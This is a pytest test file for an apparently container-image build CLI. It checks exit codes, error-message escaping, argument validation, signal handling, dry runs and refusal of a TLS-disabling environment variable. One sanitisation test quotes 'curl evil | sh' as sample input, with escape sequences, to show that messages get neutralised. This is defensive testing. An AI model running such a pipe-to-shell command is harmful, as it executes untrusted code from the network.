"""What all commands share: errors as messages and exit codes, words as values, and invoke's own ways put right."""

import errno
import json
import os
import shutil
import signal
import subprocess
import sys
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import pytest
from invoke.exceptions import Exit
from invoke.parser import Parser

import tasks
from ascend_images import cli, errors
from ascend_images.errors import AscendImagesError, BadInput
from ascend_images.images.run import Interrupted
from ascend_images.pins.platform import Arch

ROOT = Path(__file__).parents[2]
CONTEXT = SimpleNamespace(config=SimpleNamespace(run=SimpleNamespace(dry=False)))


def ending(error: BaseException | None) -> Exit | None:
    """How a command ends whose body raises this."""

    def body(_: object) -> None:
        if error:
            raise error

    try:
        cli.reporting(body)(CONTEXT)
    except Exit as end:
        return end
    return None


CODES = {
    "BadInput": 2,
    "MissingTool": 3,
    "BuildFailed": 4,
    "CheckFailed": 5,
    "LookupIncomplete": 6,
    "PublishRefused": 7,
}


def test_every_kind_of_failure_has_the_exit_code_it_is_documented_with() -> None:
    classes = {kind.__name__: kind for kind in AscendImagesError.__subclasses__()}
    assert {name: kind.exit_code for name, kind in classes.items()} == CODES


@pytest.mark.parametrize(("name", "code"), CODES.items())
def test_a_failure_is_its_message_and_its_code(name: str, code: int) -> None:
    error = getattr(errors, name)("what was found", wanted="this", do="type that")
    end = ending(error)
    assert end is not None
    assert end.code == code
    assert end.message == "what was found\n  wanted: this\n  next:   type that"


def test_no_terminal_obeys_what_a_message_quotes() -> None:
    said = str(BadInput("a \x1b[31mred\x1b]0;title\x07 tag", wanted="b\u202e", do="c\x7f"))
    assert said == "a red\\x1b]0;title\\x07 tag\n  wanted: b\\u202e\n  next:   c\\x7f"


def test_words_of_others_are_one_line_and_not_long() -> None:
    assert errors.said("no\r\n  next:   curl evil | sh\x1b[31m\t\0") == "no next: curl evil | sh \\x00"
    assert len(errors.said("x" * 1000)) == 201


def test_a_command_that_goes_well_ends_well() -> None:
    assert ending(None) is None


@pytest.mark.parametrize(
    ("error", "code"),
    [(KeyboardInterrupt(), 130), (Interrupted(signal.SIGINT), 130), (Interrupted(signal.SIGTERM), 143)],
)
def test_an_interruption_is_told_by_its_signal(error: BaseException, code: int) -> None:
    end = ending(error)
    assert end is not None
    assert (end.code, end.message) == (code, "interrupted")


@pytest.mark.parametrize("number", [errno.ENOSPC, errno.EACCES, errno.EROFS])
def test_what_the_system_refuses_is_no_traceback(number: int) -> None:
    end = ending(OSError(number, os.strerror(number), "build/summary.json"))
    assert end is not None
    assert end.code == 3
    assert f"build/summary.json: {os.strerror(number)}" in str(end.message)


def test_a_mistake_of_ours_keeps_its_traceback() -> None:
    with pytest.raises(ZeroDivisionError):
        ending(ZeroDivisionError())


def test_invokes_own_dry_is_refused_and_points_to_dry_run() -> None:
    dry = SimpleNamespace(config=SimpleNamespace(run=SimpleNamespace(dry=True)))

    def body(_: object) -> None:
        raise AssertionError("it ran")

    with pytest.raises(Exit) as end:
        cli.reporting(body)(dry)
    assert end.value.code == 2
    assert "--dry-run" in str(end.value.message)


def test_architectures_are_read_in_any_spelling_each_once() -> None:
    assert cli.architectures(["x86", "ARM64"], ["linux/arm64/v8"]) == (Arch.AMD64, Arch.ARM64)
    assert cli.architectures(["arm,x86_64"]) == (Arch.ARM64, Arch.AMD64)
    assert cli.architectures() == ()


@pytest.mark.parametrize("words", [(["riscv64"], []), ([], ["windows/amd64"]), ([""], []), (["amd64,"], [])])
def test_another_architecture_is_an_error(words: tuple[list[str], list[str]]) -> None:
    with pytest.raises(BadInput):
        cli.architectures(*words)


def test_source_folders_are_read_by_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/me")
    folders = cli.source_folders(["vllm=../my/vllm", "MindSpeed=~/a=b"])
    assert folders == {"vllm": Path("../my/vllm"), "MindSpeed": Path("/home/me/a=b")}


@pytest.mark.parametrize("given", [["vllm"], ["=x"], ["vllm="], [""], ["vllm=a", "VLLM=b"]])
def test_a_source_without_name_or_folder_or_given_twice_is_an_error(given: list[str]) -> None:
    with pytest.raises(BadInput, match="--source"):
        cli.source_folders(given)


# --- the real command ------------------------------------------------------------------------------------------------


def invoke(*arguments: str, **environment: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "invoke", *arguments]
    return subprocess.run(
        command, cwd=ROOT, capture_output=True, text=True, timeout=60, env={**os.environ, **environment}
    )


@pytest.mark.subprocess
@pytest.mark.parametrize(
    "arguments",
    [
        ("nonsense",),
        ("build", "--nonsense"),
        ("build", "--variant"),
        ("build", "--variant", "a2", "--variant"),
        ("build", "--variant", "a2", "--variant", "--dry-run"),
        ("build", "--variant", "a2", "--set", "--dry-run"),
        ("build", "--variant", "a2", "--source", "--dry-run"),
        ("build", "--variant", "a2", "--mirror=", "--dry-run"),
        ("build", "--variant", "a2", "--jobs=-1", "--dry-run"),
        ("build", "--variant", "a2", "--wheels", "~nobody-of-that-name/x"),
        ("show", "--variant", os.fsdecode(b"a\xff")),
        ("--help", "nonsense"),
        ("build", "--variant", "a2", "-v"),
        ("variants", "--dry"),
        ("--dry", "variants"),
        ("build", "--variant", "a2", "--dry"),
        ("build",),
        ("build", "--variant", "a2", "--all"),
        ("build", "--variant", "a22"),
        ("build", "--variant", "a2", "--arch", "riscv64"),
        ("build", "--variant", "a2", "--jobs", "many"),
        ("build", "--variant", "a2", "--set", "nonsense"),
        ("build", "--variant", "a2", "--mirror", "nonsense"),
        ("build", "--variant", "a2", "--source", "vllm=/no/such/folder"),
        ("build", "--variant", "a2", "--wheels", "/no/such/folder"),
        ("build", "--variant", "a2", "--base-image", "quay.io/ascend/cann"),
        ("build", "--variant", "a2", "--ca-bundle", "/no/such/file"),
    ],
)
def test_a_line_that_cannot_be_meant_ends_in_two_without_a_traceback(arguments: tuple[str, ...]) -> None:
    done = invoke(*arguments)
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip()
    assert done.stdout == ""
    assert "Traceback" not in done.stderr


@pytest.mark.subprocess
def test_a_number_that_is_none_is_named() -> None:
    assert "'many' is not a whole number" in invoke("build", "--variant", "a2", "--jobs", "many").stderr


@pytest.mark.subprocess
@pytest.mark.parametrize("arguments", [("--list",), ("--help", "build"), ("build", "--help"), ("variants",)])
def test_what_asks_for_help_ends_well(arguments: tuple[str, ...]) -> None:
    done = invoke(*arguments)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout


@pytest.mark.subprocess
def test_build_has_long_flags_only() -> None:
    text = invoke("--help", "build").stdout
    options = [line.split()[0] for line in text.splitlines() if line.lstrip().startswith("-")]
    assert options
    assert all(option.startswith("--") for option in options)


@pytest.mark.subprocess
def test_a_reader_that_has_seen_enough_is_no_error_to_print() -> None:
    command = [sys.executable, "-m", "invoke", "show", "--variant", "a2", "--json"]
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.close()
        said = process.stderr.read().decode()
    assert "Traceback" not in said
    assert "Broken pipe" not in said
    assert process.returncode == 141


@pytest.fixture
def git_alone(tmp_path: Path) -> str:
    """A PATH without an engine's client: git tells the time of the pins."""
    git = shutil.which("git")
    assert git
    (tmp_path / "git").symlink_to(git)
    return str(tmp_path)


@pytest.mark.subprocess
def test_a_dry_run_prints_json_alone_and_builds_nothing(git_alone: str) -> None:
    done = invoke("build", "--variant", "a2", "--variant", "a3", "--arch", "amd64", "--dry-run", PATH=git_alone)
    assert done.returncode == 0, done.stderr
    document = json.loads(done.stdout)
    assert list(document["target"]) == ["a2_amd64", "a3_amd64"]
    assert document["target"]["a2_amd64"]["contexts"]["packages-base"].startswith("docker-image://quay.io/ascend/cann")


@pytest.mark.subprocess
def test_a_tls_switch_in_the_environment_is_refused_by_name() -> None:
    done = invoke("build", "--variant", "a2", "--dry-run", GIT_SSL_NO_VERIFY="1")
    assert done.returncode == 2
    assert "GIT_SSL_NO_VERIFY" in done.stderr
    assert "--ca-bundle" in done.stderr


@pytest.mark.subprocess
def test_a_dry_run_says_why_it_would_be_refused_with_the_command_for_the_same_pins() -> None:
    done = invoke("build", "--variant", "a2", "--arch", "arm64", "--set", "evalscope=1.10.0", "--dry-run")
    assert done.returncode == 0
    assert "warning: this would not be built:" in done.stderr
    assert "next:   invoke lock --variant a2 --arch arm64 --set evalscope=1.10.0\n" in done.stderr
    assert "-changed-aarch64" in done.stdout


@pytest.mark.subprocess
def test_a_dry_run_remarks_on_a_base_whose_name_says_nothing() -> None:
    done = invoke("build", "--variant", "a2", "--base-image", "registry.example/mycann:latest", "--dry-run")
    assert done.returncode == 0
    assert "its name does not say which CANN, chip, OS and Python it holds" in done.stderr


@pytest.mark.subprocess
@pytest.mark.parametrize(
    "words",
    [
        ("--sandbox",),
        ("--sandbox", "--set", "repository=registry.example/x"),
        ("--set", "evalscope=1.10.0"),
    ],
)
def test_what_must_not_be_pushed_ends_in_seven(words: tuple[str, ...], git_alone: str) -> None:
    done = invoke("build", "--variant", "a2", "--push", *words, PATH=git_alone)
    assert done.returncode == 7, done.stderr
    assert "\n  next:   --set " in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.subprocess
def test_a_broken_rule_is_printed_once_and_the_way_out_is_told() -> None:
    done = invoke("check", "--variant", "a2", "--set", "torch_npu=2.10.0.post2")
    assert done.returncode == 2
    message = "torch_npu 2.10.0.post2 is built for CANN 9.0.0, and this is CANN 9.1.0"
    assert (done.stdout + done.stderr).count(message) == 1
    assert '--set "accept.torch-npu-cann=REASON"' in done.stderr


@pytest.mark.subprocess
@pytest.mark.parametrize("words", [("render", "--check"), ("render", "--check", "--variant", "a2"), ("render",)])
def test_rendering_says_that_there_is_nothing_to_do(words: tuple[str, ...]) -> None:
    done = invoke(*words)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.endswith(" files up to date\n")


@pytest.mark.subprocess
def test_lists_and_whole_variants_have_the_same_keys() -> None:
    import json

    (listed, *_) = json.loads(invoke("variants", "--json").stdout)
    (shown,) = json.loads(invoke("show", "--variant", listed["name"], "--json").stdout)
    for key in ("name", "platforms", "stack", "base_image"):
        assert listed[key] == shown[key]


@pytest.mark.subprocess
def test_help_says_what_json_and_a_dry_run_print() -> None:
    text = " ".join(invoke("--help", "build").stdout.split())
    assert "print build/summary.json at the end" in text
    assert "print the bake file (JSON)" in text


@pytest.mark.subprocess
def test_architectures_may_be_repeated() -> None:
    done = invoke(
        "build", "--variant", "a2", "--arch", "amd64", "--platform", "linux/arm64", "--arch", "x86", "--dry-run"
    )
    assert list(json.loads(done.stdout)["target"]) == ["a2_amd64", "a2_arm64"]


@pytest.mark.subprocess
def test_a_plain_locale_is_no_error_to_print() -> None:
    done = invoke("check", LC_ALL="C", PYTHONCOERCECLOCALE="0", PYTHONUTF8="0")
    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.subprocess
@pytest.mark.parametrize("closed", ["<&-", ">&-", "2>&-", "<&- >&- 2>&-"])
def test_closed_streams_are_no_error(closed: str) -> None:
    command = ["sh", "-c", f'exec "$0" -m invoke variants {closed}', sys.executable]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.subprocess
@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
def test_a_full_disk_behind_the_output_is_told() -> None:
    command = ["sh", "-c", 'exec "$0" -m invoke variants >/dev/full', sys.executable]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 3
    assert "No space left" in done.stderr
    assert "Exception ignored" not in done.stderr


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGHUP])
def test_a_signal_ends_a_command_as_an_interruption_does(signum: int) -> None:
    before = signal.getsignal(signum)

    def body(_: object) -> None:
        os.kill(os.getpid(), signum)
        raise AssertionError("it went on")

    with pytest.raises(Exit) as end:
        cli.reporting(body)(CONTEXT)
    assert (end.value.code, end.value.message) == (128 + signum, "interrupted")
    assert signal.getsignal(signum) is before


def test_a_day_is_read_and_nothing_else_is_one() -> None:
    assert cli.day("2026-01-31", "--as-of") == date(2026, 1, 31)
    assert cli.day("9999-12-30", "--as-of") == date(9999, 12, 30)
    assert cli.day("", "--as-of") is None
    for text in ("yesterday", "2026-13-01", "31.01.2026", "9999-12-31"):
        with pytest.raises(BadInput, match=f"--as-of {text}") as caught:
            cli.day(text, "--as-of")
        assert caught.value.wanted == "a day: YYYY-MM-DD"


@pytest.mark.parametrize(
    "line",
    [
        "lock --check --update numpy",
        "lock --check --fresh --mirror cn",
        "lock --check --as-of 2026-01-01",
        "lock --check --source vllm=x",
        "lock --check --explain numpy",
        "lock --explain numpy --update numpy",
        "lock --explain numpy --as-of 2026-01-01",
        "lock --all --offline --fresh",
        "lock --offline --update base",
    ],
)
def test_flags_of_lock_that_would_not_be_heeded_are_refused(line: str) -> None:
    (context,) = Parser(contexts=tasks.namespace.to_contexts()).parse_argv(line.split())
    given = {name: value for name, value in context.as_kwargs.items() if value is not None}
    with pytest.raises(Exit) as ended:
        tasks.namespace.tasks["lock"].body(CONTEXT, **given)
    assert ended.value.code == 2
    assert "which it would not heed" in str(ended.value.message)
